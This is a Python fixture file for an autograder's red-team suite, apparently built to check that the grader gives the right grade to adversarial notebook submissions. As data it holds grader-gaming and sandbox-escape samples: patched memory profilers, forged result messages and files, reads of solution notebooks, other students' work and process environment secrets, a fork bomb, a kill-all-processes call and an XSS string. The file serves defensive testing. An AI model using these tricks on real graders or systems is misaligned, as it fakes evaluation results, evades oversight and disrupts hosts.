"""Adversarial submissions for the red-team suite, in four groups, each with the grade it must get.

Every attack starts from the *honest failing* submission (``sum_of_squares`` wrong, ``row_norms``
right but materialising ``x * x``: 0 points) and adds one trick that would earn points if the
grader fell for it. A region body may dedent to run code when the cell executes.
Placeholders: ``@SOL@`` solutions folder, ``@OUT@`` output folder, ``@SUBS@`` submissions folder,
``@REF@`` the solution notebook's file, ``@PORT@`` a TCP port the test listens on (host network),
``@MARK@`` a host path that must never be created.
"""
from __future__ import annotations

WS = "    return float(x.sum())"            # wrong answers
WN = "    return (x * x).sum(1).sqrt()"     # right answers, a temporary as large as x

LEAN_IF = "    return torch.linalg.vector_norm(x, dim=1)"


def attack(sumsq: str = WS, norms: str = WN, *, top: str = "") -> dict[str, str]:
    """Region bodies; ``top`` runs at cell level (after sum_of_squares is defined)."""
    return {"fx-sumsq": sumsq + ("\n" + top.strip("\n") if top else ""), "fx-norms": norms}


# ---------------------------------------------------------------- A: faking the measurement
A = {
    "a01_patch_cuda_counters": (attack(top="""
torch.cuda.max_memory_allocated = lambda *a, **k: 0
torch.cuda.reset_peak_memory_stats = lambda *a, **k: None"""), "tampering"),
    "a02_patch_profiler_measure": (attack(top="""
import sys
import memopt_lib.profiler as P
_real = P.measure
def _fake(fn, **kw):
    fn()
    return _real(lambda: None, **kw)
for _m in list(sys.modules.values()):
    if getattr(_m, "measure", None) is _real:
        _m.measure = _fake"""), "tampering"),
    "a03_patch_tracker_method": (attack(top="""
from memopt_lib.profiler import MemoryTracker
MemoryTracker._change = lambda self, delta: None"""), "tampering"),
    "a04_patch_and_restore": (attack(norms="""
    from memopt_lib.profiler import MemoryTracker
    saved = MemoryTracker._change
    MemoryTracker._change = lambda self, delta: None
    try:
        return (x * x).sum(1).sqrt()
    finally:
        MemoryTracker._change = saved"""), "graded", {"row_norms_lean": "failed"}),
    "a05_reset_tracker_peak": (attack(norms="""
    from torch.utils._python_dispatch import _get_current_dispatch_mode_stack
    out = (x * x).sum(1).sqrt()
    for mode in _get_current_dispatch_mode_stack():
        mode.peak_bytes = mode.current_bytes      # forget the peak the temporary made
        mode._peak_sizes = {}
    return out"""), "graded", {"row_norms_lean": "failed"}),
    "a06_reset_peak_stats": (attack(norms="""
    out = (x * x).sum(1).sqrt()
    try:
        torch.cuda.reset_peak_memory_stats()
    except Exception:
        pass
    return out"""), "graded", {"row_norms_lean": "failed"}),
    "a07_numpy_outside_torch": (attack(norms="""
    import numpy as np
    a = x.numpy()
    return torch.from_numpy(np.sqrt((a * a).sum(1)))"""), "graded", {"row_norms_lean": "failed"}),
    "a08_thread_offload": (attack(norms="""
    import threading
    box = {}
    t = threading.Thread(target=lambda: box.setdefault("y", (x * x).sum(1).sqrt()))
    t.start()
    t.join()
    return box["y"]"""), "graded", {"row_norms_lean": "failed"}),
    "a09_subprocess_offload": (attack(norms="""
    import os
    r, w = os.pipe()
    if os.fork() == 0:
        os.write(w, (x * x).sum(1).sqrt().numpy().tobytes())
        os._exit(0)
    os.close(w)
    data = b""
    while chunk := os.read(r, 1 << 16):
        data += chunk
    return torch.frombuffer(bytearray(data), dtype=torch.float32)"""), "tampering"),
    "a10_precomputed_outputs": (attack(sumsq="    return 42.0"), "graded", {"sum_of_squares_values": "failed"}),
    "a11_patch_storage_nbytes": (attack(top="""
torch.UntypedStorage.nbytes = lambda self: 0"""), "tampering"),
    "a12_patch_builtins": (attack(top="""
import builtins
builtins.isinstance = lambda obj, cls: False"""), "tampering"),
    "a13_settrace": (attack(top="""
import sys
sys.settrace(lambda *a: None)"""), "tampering"),
    "a14_gc_walk_to_tracker": (attack(norms="""
    import gc
    out = (x * x).sum(1).sqrt()
    for o in gc.get_objects():
        if type(o).__name__ == "MemoryTracker":
            o.peak_bytes = o.current_bytes
    return out"""), "tampering"),
    "a15_global_dispatch_mode": (attack(top="""
from torch.utils._python_dispatch import TorchDispatchMode
class _Hide(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))
_Hide().__enter__()"""), "tampering"),
}

# ---------------------------------------------------------------- B: neutralising the checks
B = {
    "b01_skip_tags_and_outputs": ("tags", "graded", {"sum_of_squares_values": "failed", "row_norms_lean": "failed"}),
    "b02_new_cell_with_answer": ("newcell", "graded", {"sum_of_squares_values": "failed"}),
    "b03_input_transformer": (attack(top="""
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])"""), "graded"),
    "b04_custom_excepthook": (attack(top="""
import sys
sys.excepthook = lambda *a: None"""), "tampering"),
    "b05_sys_exit_early": (attack(sumsq="    return float(x.sum())\nimport sys\nsys.exit(0)"), "graded",
                           {"sum_of_squares_values": "failed"}),
    "b06_os_exit_before_checks": (attack(top="""
import os
os._exit(0)"""), "graded", {"sum_of_squares_values": "crashed", "row_norms_lean": "crashed"}),
    "b07_forged_pipe_messages": (attack(top="""
import json, os, sys
for token in ("", "0" * 64, None):
    for ev in ({"event": "result", "check": "sum_of_squares_values", "status": "passed", "token": token},
               {"event": "result", "check": "row_norms_lean", "status": "passed", "token": token},
               {"event": "done", "token": token}):
        line = (json.dumps(ev) + "\\n").encode()
        for fd in range(1, 30):
            try:
                os.write(fd, line)
            except OSError:
                pass
os._exit(0)"""), "graded", {"sum_of_squares_values": "crashed", "row_norms_lean": "crashed"}),
    "b08_forged_result_files": (attack(top="""
import json, os
fake = json.dumps({"score": 5, "tests": []})
for path in ("@OUT@/results/b08_forged_result_files.json", "@OUT@/grades.csv", "results.json",
             "/autograder/results/results.json", "@MARK@"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write(fake)
    except OSError:
        pass"""), "graded"),
    "b09_pickle_for_the_grader": ("pickle", "graded"),
    "b10_atexit_forgery": (attack(top="""
import atexit, json, os
atexit.register(lambda: os.write(3, (json.dumps({"event": "result", "check": "row_norms_lean",
                                                  "status": "passed"}) + "\\n").encode()))"""), "graded"),
}

# ---------------------------------------------------------------- C: escaping the sandbox
C = {
    "c01_read_solutions": (attack(norms="""
    import glob
    for path in glob.glob("@SOL@/*.ipynb") + glob.glob("/work/*/solutions/*.ipynb"):
        try:
            if "vector_norm" in open(path).read():
                return torch.linalg.vector_norm(x, dim=1)
        except OSError:
            pass
    return (x * x).sum(1).sqrt()"""), "graded", {"row_norms_lean": "failed"}),
    "c02_read_reference": (attack(sumsq="""
    try:
        if "BEGIN SOLUTION" in open("@REF@").read():
            return float((x * x).sum())
    except OSError:
        pass
    return float(x.sum())"""), "graded", {"sum_of_squares_values": "failed"}),
    "c03_read_other_students": (attack(norms="""
    import glob
    for path in glob.glob("@SUBS@/*/*.ipynb"):
        try:
            if "vector_norm" in open(path).read():
                return torch.linalg.vector_norm(x, dim=1)
        except OSError:
            pass
    return (x * x).sum(1).sqrt()"""), "graded", {"row_norms_lean": "failed"}),
    "c04_write_outside": (attack(top="""
import os
for path in ("@MARK@", "@SOL@/pwned.txt", "@OUT@/pwned.txt", os.path.expanduser("~/pwned"), "/pwned"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except OSError:
        pass"""), "graded"),
    "c05_network": (attack(sumsq="""
    import socket
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as s:
            s.sendall(b"pwned")
            return float((x * x).sum())
    except OSError:
        return float(x.sum())"""), "graded", {"sum_of_squares_values": "failed"}),
    "c06_fork_bomb": (attack(top="""
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1000)"""), "graded", {"sum_of_squares_values": "timeout", "row_norms_lean": "timeout"}),
    "c07_huge_file": (attack(top="""
with open("big.bin", "wb") as f:
    for _ in range(1024):
        f.write(b"0" * (1 << 20))"""), "graded", {"sum_of_squares_values": "failed"}),
    "c08_symlink_to_solution": ("symlink", "ungradable"),
    "c09_grader_environment": (attack(sumsq="""
    import os
    secret = os.environ.get("MEMOPT_REDTEAM_SECRET")
    try:
        secret = secret or open("/proc/1/environ").read()
    except OSError:
        pass
    if secret and "hunter2" in secret:
        return float((x * x).sum())
    return float(x.sum())"""), "graded", {"sum_of_squares_values": "failed"}),
}

# ---------------------------------------------------------------- D: robustness
D = {
    "d01_infinite_loop_top": (attack(top="while True:\n    pass"), "graded",
                              {"sum_of_squares_values": "timeout", "row_norms_lean": "timeout"}),
    "d02_infinite_loop_in_check": (attack(norms="    while True:\n        pass"), "graded",
                                   {"sum_of_squares_values": "failed", "row_norms_lean": "timeout"}),
    "d03_sleep_forever": (attack(top="import time\ntime.sleep(10 ** 6)"), "graded",
                          {"sum_of_squares_values": "timeout", "row_norms_lean": "timeout"}),
    "d04_os_exit_in_function": (attack(sumsq="    import os\n    os._exit(0)"), "graded",
                                {"sum_of_squares_values": "crashed", "row_norms_lean": "not_run"}),
    "d05_segfault": (attack(sumsq="    import ctypes\n    ctypes.string_at(0)"), "graded",
                     {"sum_of_squares_values": "crashed", "row_norms_lean": "not_run"}),
    "d06_malformed_json": ("malformed", "ungradable"),
    "d07_truncated_notebook": ("truncated", "ungradable"),
    "d08_nbformat3": ("nbformat3", "ungradable"),
    "d09_huge_output": (attack(top="""
import sys
for _ in range(200):
    sys.stdout.write("spam " * 20000 + "\\n")"""), "graded", {"sum_of_squares_values": "failed"}),
    "d10_input": (attack(top="name = input('who are you? ')"), "graded", {"sum_of_squares_values": "failed"}),
    "d11_allocate_100gb": (attack(norms="    return torch.empty(100 * 2**30, dtype=torch.uint8)"), "graded",
                           {"row_norms_lean": "oom"}),
    "d12_memory_hog": (attack(sumsq="""
    hog = []
    while True:
        hog.append(torch.empty(2**28, dtype=torch.uint8))"""), "graded", {"sum_of_squares_values": "oom"}),
    "d13_no_notebook": ("empty", "ungradable"),
    "d14_two_notebooks": ("two", "ungradable"),
    "d15_no_cell_ids": ("noids", "ungradable"),
    "d16_hostile_exception_text": (attack(sumsq="""
    class Boom(Exception):
        def __str__(self):
            return "<script>alert('pwned')</script><img src=x onerror=alert(1)>"
    raise Boom()"""), "graded", {"sum_of_squares_values": "error"}),
    "d17_kill_everything": (attack(top="""
import os, signal
for target in (-1, 0, os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass"""), "tampering"),
}

ALL = {**A, **B, **C, **D}
# attacks that can only end at the wall-clock limit: graded in a second batch with a short --timeout
SHORT_TIMEOUT = {"c06_fork_bomb", "d01_infinite_loop_top", "d03_sleep_forever"}
